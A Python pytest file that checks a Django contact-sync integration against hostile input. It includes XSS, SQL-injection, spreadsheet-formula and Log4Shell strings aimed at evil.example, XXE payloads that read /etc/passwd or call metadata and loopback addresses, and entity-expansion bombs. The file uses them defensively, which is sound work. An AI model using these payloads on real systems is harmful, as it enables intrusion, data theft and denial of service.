"""Values that are meant to hurt: addresses, names, XML, dates and amounts."""

from __future__ import annotations

import time

import pytest
from django.test import Client
from django.urls import reverse

from integration.connectors.base import FieldSpec
from integration.connectors.maileon import xml
from integration.engine.flow.mapping_row import MappingRow
from integration.engine.mapping import transforms
from integration.errors import ContractError
from integration.models import RecordLink, SyncLog
from tests.support.factories import MemberFactory, UserFactory

# Addresses and names


@pytest.mark.chaos("W8")
@pytest.mark.parametrize(
    ("typed", "arrives"),
    [
        ("ADA@Example.COM", "ada@example.com"), (" ada@example.com ", "ada@example.com"),
        ("ada+news@example.com", "ada+news@example.com"), ("info@example.com", "info@example.com"),
        ("", None), ("ada", None), ("ada@", None), ("@example.com", None), ("ada@example.com, eve@example.com", None),
        ("ada@example.com;eve@example.com", None), ("Ada <ada@example.com>", None), ("a@b@example.com", None),
        ("ada@example.com\r\nBcc: eve@example.com", None), (f"{'a' * 240}@example.com", None),
        ("ada byron@example.com", None),
    ],
)  # fmt: skip
def test_an_address_arrives_as_it_is_or_is_skipped_with_a_reason(world, typed, arrives):
    person_id = world.person("Ada Byron", email=typed)
    world.deliver()

    if arrives is None:
        assert world.contacts() == {}
        assert world.mails() == []
        row = SyncLog.objects.filter(source_id=person_id).latest("id")
        assert row.reason in ("no_email", "invalid_email", "record_refused"), row.reason
    else:
        assert [address.lower() for address in world.mails()] == [arrives]


@pytest.mark.chaos("W8")
@pytest.mark.parametrize(
    ("typed", "same"),
    [
        ("ada@bücher.example", "ada@xn--bcher-kva.example"),  # the domain as mail systems write it (RFC 5891)
        ('"ada b"@example.com', '"ada b"@example.com'),
        ("аda@example.com", "аda@example.com"),  # its first letter is Cyrillic
    ],
)
def test_an_address_of_unusual_letters_is_never_turned_into_another_one(world, typed, same):
    person_id = world.person("Ada Byron", email=typed)
    world.deliver()

    assert set(world.mails()) <= {same}
    assert world.mails() or SyncLog.objects.filter(source_id=person_id).exclude(reason="").exists()


NAMES = (
    "<script>alert(1)</script>", '=HYPERLINK("http://evil.example","x")', "Ada \u202egnirts", "Ada 🎉👩‍👩‍👧",
    "{{7*7}} {% now %}",
    "${jndi:ldap://evil.example/a}", '"><img src=x onerror=alert(1)>', "Robert'); DROP TABLE persons;--", "A" * 255,
)  # fmt: skip


@pytest.mark.chaos("W9")
@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_name_that_is_code_arrives_as_it_is_and_runs_nowhere(world, name):
    person_id = world.person(name, email="ada@example.com")
    world.deliver()

    there = world.contacts()["ada@example.com"]["standard"]["FULLNAME"]
    assert name.startswith(there.removesuffix("…"))
    assert there == name or len(there) >= 200
    member = MemberFactory(tenant=world.integration.tenant)
    staff = UserFactory(is_staff=True, is_superuser=True)
    link = RecordLink.objects.get(source_id=person_id, link_type="person")
    ids = {"tenant_id": member.tenant_id, "integration_id": world.integration.pk}
    pages = {
        member.user: [reverse("portal:activity", kwargs=ids), f"{reverse('portal:record', kwargs=ids)}?id={person_id}"],
        staff: [reverse("admin:integration_recordlink_change", args=[link.pk]), f"/admin/find/?q={person_id}"],
    }  # fmt: skip
    for user, addresses in pages.items():
        client = Client()
        client.force_login(user)
        for address in addresses:
            html = client.get(address).content.decode()
            assert "<script>alert(1)" not in html
            assert "<img src=x" not in html


# XML, dates, amounts


HOSTILE_XML = {
    "document type": b'<!DOCTYPE a SYSTEM "http://169.254.169.254/x.dtd"><a/>',
    "external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "a billion laughs": b'<!DOCTYPE a [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><a>&a9;</a>",
    "quadratic": b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a>' + b"&x;" * 50_000 + b"</a>",
    "parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1/x">%x;]><a/>',
    "unclosed": b"<a>" * 5000,
}


@pytest.mark.chaos("W15")
@pytest.mark.parametrize("name", HOSTILE_XML)
def test_hostile_xml_is_refused_at_once_and_fetches_nothing(name):
    began = time.thread_time()
    with pytest.raises(ContractError):
        xml.parse(HOSTILE_XML[name])
    assert time.thread_time() - began < 0.05


@pytest.mark.chaos("W15")
def test_a_hundred_thousand_attributes_cost_no_more_than_reading_them():
    many = b"<a " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>"
    began = time.thread_time()
    assert xml.text(xml.parse(many), "id") == ""
    assert time.thread_time() - began < 2


def converted(value, kind):
    target = {"T": FieldSpec("T", "T", kind)}
    return transforms.apply([MappingRow("f", "T")], {"f": value}, source_fields={}, target_fields=target)


@pytest.mark.chaos("W16")
@pytest.mark.parametrize(
    ("value", "kind", "right"),
    [
        ("2026-02-31", "date", None), ("0000-01-01", "date", None), ("2026-13-01", "date", None),
        ("0001-01-01", "date", "0001-01-01"), ("2026-02-28T23:30:00-02:00", "date", "2026-03-01"),
        ("2026-03-29 02:30:00", "datetime", "2026-03-29T02:30:00+00:00"),  # a gap in Berlin, none in UTC
        ("2026-10-25T02:30:00+02:00", "datetime", "2026-10-25T00:30:00+00:00"),
        ("2026-10-25T02:30:00+01:00", "datetime", "2026-10-25T01:30:00+00:00"), ("24:61", "datetime", None),
        ("1.234,56", "number", None), ("1e308", "number", None), ("1e309", "number", None), ("NaN", "money", None),
        ("-0", "number", 0), ("12.50", "number", 12.5), ("123456789012", "integer", 123456789012),
    ],
)  # fmt: skip
def test_a_date_or_amount_is_right_or_said_not_to_fit(value, kind, right):
    mapped = converted(value, kind)

    if right is None:
        assert mapped.values == {}
        assert mapped.problems["T"]
    else:
        assert mapped.values == {"T": right}
